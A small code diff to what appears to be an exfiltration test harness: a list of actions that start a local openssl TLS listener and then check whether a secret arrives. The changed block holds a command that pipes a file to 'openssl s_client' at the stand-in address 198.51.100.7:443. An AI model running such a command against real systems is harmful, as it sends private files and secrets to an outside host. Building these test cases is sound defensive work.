@@ -100,7 +100,7 @@ export const exfiltration: readonly Action[] = [
     needs: ['openssl'],
     before: `cd /run
 openssl req -x509 -newkey rsa:2048 -nodes -keyout k -out c -subj /CN=x -days 1 2>/dev/null
-openssl s_server -quiet -accept 443 -key k -cert c -naccept 1 >/run/got 2>/dev/null &
+sleep 5 | openssl s_server -quiet -accept 443 -key k -cert c -naccept 1 >/run/got 2>/dev/null &
 sleep 0.3`,
     run: `(cat ${file}; sleep 0.5) | timeout 3 openssl s_client -connect 198.51.100.7:443`,
     effect: received(secret),
